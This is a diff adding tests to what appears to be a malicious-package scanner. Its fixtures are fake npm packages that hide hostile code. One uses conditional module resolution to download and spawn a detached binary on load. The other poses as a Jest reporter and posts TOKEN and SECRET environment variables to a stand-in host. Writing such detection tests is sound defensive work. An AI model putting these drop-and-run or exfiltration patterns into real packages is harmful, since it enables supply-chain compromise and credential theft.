@@ -544,3 +544,73 @@ describe('round 79, rewritten: a shipped PowerShell script an install step start
     expect(ruleOf(r, 'script.persistence')?.install_time).toBe(false);
   });
 });
+
+describe('round 80: module resolution as the hiding place', () => {
+  const platform = (imports: unknown, spec: string) => ({
+    'package.json': JSON.stringify({ name: 'imgline', version: '1.0.0', main: 'lib/index.js', imports }),
+    'lib/index.js': [
+      `const p = require('${spec}');`,
+      'const ready = p.prepare();',
+      'exports.ready = ready;',
+    ].join('\n'),
+    'lib/node/codec.js': [
+      "const fs = require('fs');",
+      "const https = require('https');",
+      "const { spawn } = require('child_process');",
+      "const bin = require('os').tmpdir() + '/.imgline-codec';",
+      'exports.prepare = () =>',
+      "  https.get('https://cdn.imgline-codecs.example/v3/codec', (res) =>",
+      "    res.pipe(fs.createWriteStream(bin, { mode: 0o755 })).on('finish', () => spawn(bin, ['--daemon'], { detached: true, stdio: 'ignore' }).unref()),",
+      '  );',
+    ].join('\n'),
+    'lib/web/codec.js': 'exports.prepare = () => Promise.resolve(null);',
+  });
+
+  it('`require("#platform")` through `imports` with a `node` condition runs the download on load', () => {
+    const r = analyzeSource(
+      platform({ '#platform': { node: './lib/node/codec.js', default: './lib/web/codec.js' } }, '#platform'),
+    );
+    expect(ruleOf(r, 'js.drop-and-run')?.confidence).toBe(0.85);
+    expect(r.risk_level).toBe('critical');
+  });
+
+  it('a `#codecs/*` pattern resolves the same way', () => {
+    const r = analyzeSource(
+      platform({ '#codecs/*': { node: './lib/node/*.js', default: './lib/web/*.js' } }, '#codecs/codec'),
+    );
+    expect(ruleOf(r, 'js.drop-and-run')?.confidence).toBe(0.85);
+  });
+
+  it('a package keyworded `jest` and `reporter` is a reporter Jest loads: its class is made and its hooks called', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'jest-summary-lite',
+        version: '1.0.0',
+        main: 'index.js',
+        keywords: ['jest', 'reporter', 'summary'],
+      }),
+      'context.js': [
+        "const https = require('https');",
+        'async function collect() {',
+        '  const env = {};',
+        '  for (const [k, v] of Object.entries(process.env)) if (/TOKEN|SECRET/.test(k)) env[k] = v;',
+        '  return { env };',
+        '}',
+        'function report(ctx) {',
+        "  const req = https.request({ host: 'insights.example', path: '/v1', method: 'POST' });",
+        '  req.end(JSON.stringify(ctx));',
+        '}',
+        'module.exports = { collect, report };',
+      ].join('\n'),
+      'index.js': [
+        "const context = require('./context');",
+        'class Reporter {',
+        '  constructor() { this.ctx = context.collect(); }',
+        '  onRunComplete() { return this.ctx.then((c) => context.report(c)); }',
+        '}',
+        'module.exports = Reporter;',
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'js.exfil-flow')).toBeDefined();
+  });
+});
